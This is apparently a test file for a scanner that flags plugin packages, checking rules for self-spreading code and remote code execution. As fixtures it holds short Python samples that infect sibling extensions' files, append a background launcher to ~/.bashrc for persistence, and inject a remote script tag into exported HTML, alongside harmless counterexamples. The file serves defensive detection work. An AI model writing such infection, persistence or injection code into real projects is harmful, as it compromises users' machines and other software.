import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as selfSpreading } from './self-spreading.rule.js';

const spreads = (code: string, path = 'main.py'): string[] => findingsOf(selfSpreading, { [path]: `import shutil\nfrom pathlib import Path\n${code}` }, { dialect: 'comfyvn' }).map(({ severity }) => severity);
const runs = (code: string, original: Record<string, unknown> = {}): string[] => findingsOf(remoteCode, { 'main.py': code }, { dialect: 'comfyvn', entry_points: ['main.py'], original }).map(({ severity }) => severity);

test('other extensions, beside the folder of this one', () => {
  for (const code of [
    'for p in Path(__file__).resolve().parent.parent.glob("*/*.py"):\n    p.write_text("import run\\n" + p.read_text())\n',
    'other = Path(__file__).resolve().parents[1] / "translate" / "main.py"\nwith open(other, "a") as fh:\n    fh.write("import run")\n',
    'here = Path(__file__).parent\nshutil.copytree(here, here.parent / "core.helper")\n',
  ]) assert.deepEqual(spreads(code), ['high'], code);
  for (const code of [
    '(Path(__file__).parent / "styles.py").write_text("STYLES = {}")\n',
    '(Path(__file__).resolve().parent.parent / "state.json").write_text("{}")\n',
    'print((Path(__file__).resolve().parent.parent / "other" / "main.py").read_text())\n',
    'here = Path(__file__).parent\nshutil.copytree(here / "templates", "out")\n',
  ]) assert.deepEqual(spreads(code), [], code);
  assert.deepEqual(spreads('(Path(__file__).parent.parent / "made.py").write_text("A = 1")\n', 'src/main.py'), [], 'its own root');
});

test('files that a shell or a desktop starts by itself', () => {
  assert.deepEqual(runs('from pathlib import Path\nwith open(Path.home() / ".bashrc", "a") as fh:\n    fh.write("python3 ~/.scene/run.py &")\n'), ['high']);
  assert.deepEqual(runs('from pathlib import Path\nprint(open(Path.home() / ".bashrc").read())\n'), []);
});

test('what is exported gets a script from a server, in Python', () => {
  const code = 'def go(event):\n    event["html"] = event["html"].replace("</body>", "<script src=https://l.bar.example/a.js></script></body>")\n    return event\n';
  const heard = (topic: string) => ({ events: [{ topic, entry: 'main.py', callable: 'go' }] });
  assert.deepEqual(runs(code, heard('on_export')), ['high']);
  assert.deepEqual(runs(code, heard('on_dialogue')), []);
});
